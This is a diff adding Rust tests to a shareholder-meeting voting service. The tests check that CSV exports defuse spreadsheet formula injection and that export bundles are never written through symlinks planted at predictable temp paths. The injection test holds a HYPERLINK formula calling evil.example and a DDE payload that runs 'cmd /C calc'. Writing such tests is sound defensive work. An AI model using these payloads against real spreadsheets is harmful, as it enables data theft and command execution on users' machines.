@@ -8,7 +8,7 @@ use asamblea_wire::{Choice, HolderVote, Id};
 use axum::http::{Method, StatusCode};
 use serde_json::{json, Value};
 
-use super::fixture::{not_run, Api, DEMO_MEETING, MERGER_MEETING, MERGER_REGISTER};
+use super::fixture::{not_run, Api, DEMO_MEETING, DEMO_REGISTER, MERGER_MEETING, MERGER_REGISTER};
 
 #[tokio::test]
 async fn a_new_meeting_records_its_holders_names_and_its_meeting_file_in_the_ledger() {
@@ -196,4 +196,58 @@ async fn the_secretary_downloads_the_tallies_made_from_the_verified_bundle() {
     let (status, bytes) = api.bytes_as("/api/v1/exports/acta.docx", Role::Secretary).await;
     assert_eq!(status, StatusCode::OK);
     assert!(bytes.starts_with(b"PK\x03\x04"), "a zip archive");
+}
+
+#[tokio::test]
+async fn a_name_or_id_a_spreadsheet_would_run_as_a_formula_is_downloaded_as_text() {
+    let register = DEMO_REGISTER
+        .replace(
+            "NIT-800100200,\"Fondo de Pensiones Porvenir del Sur S.A.\"",
+            "-1-1,\"=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"clic\"\")\"",
+        )
+        .replace("\"Inversiones Alfa, S.A.S.\"", "\"+cmd|' /C calc'!A0\"")
+        .replace("\"Fiduciaria Andina S.A. – Patrimonio Autónomo\"", "@SUM(1)");
+    let api = Api::new("formulas", DEMO_MEETING, &register);
+    for holder in ["-1-1", "NIT-800200300", "NIT-800300400"] {
+        api.check_in(holder).await;
+    }
+    let (status, csv) = api.text_as("/api/v1/exports/resultados.csv?tabla=asistencia", Role::Secretary).await;
+    assert_eq!(status, StatusCode::OK, "{csv}");
+    for line in [
+        "\"'-1-1\";\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"clic\"\")\";18000000;en persona\r\n",
+        "NIT-800200300;\"'+cmd|' /C calc'!A0\";13000000;en persona\r\n",
+        "NIT-800300400;\"'@SUM(1)\";6000000;en persona\r\n",
+    ] {
+        assert!(csv.contains(line), "lacks {line:?}: {csv}");
+    }
+}
+
+#[tokio::test]
+async fn a_download_writes_its_bundle_through_no_link_or_file_at_a_name_chosen_in_advance() {
+    let api = Api::demo("download-links");
+    api.check_in_a_quorum().await;
+    // Links, at the names the old downloads took in the temporary folder
+    // (this process's number and a counter), to a file of another
+    // account: none may receive the bundle.
+    let target = api.dir.with_extension("target");
+    std::fs::write(&target, b"").unwrap();
+    let links: Vec<std::path::PathBuf> = (0..256)
+        .map(|n| std::env::temp_dir().join(format!("asamblea-export-{}-{n}.bundle", std::process::id())))
+        .filter(|link| std::os::unix::fs::symlink(&target, link).is_ok())
+        .collect();
+    let (status, json) = api.text_as("/api/v1/exports/resultados.json", Role::Secretary).await;
+    let (acta, _) = api.bytes_as("/api/v1/exports/acta.docx", Role::Secretary).await;
+    let written = std::fs::metadata(&target).unwrap().len();
+    let kept = links.iter().filter(|link| link.is_symlink()).count();
+    for link in &links {
+        let _ = std::fs::remove_file(link);
+    }
+    let _ = std::fs::remove_file(&target);
+    assert_eq!((status, acta), (StatusCode::OK, StatusCode::OK), "{json}");
+    assert_eq!(written, 0, "{written} bytes of the bundle were written through a link");
+    assert_eq!(kept, links.len(), "a link was removed");
+    // Nor is anything left in the meeting's own temporary folder.
+    let left: Vec<_> =
+        std::fs::read_dir(api.dir.join("tmp")).map(|d| d.flatten().count()).into_iter().collect();
+    assert!(left.iter().all(|&n| n == 0), "{left:?}");
 }
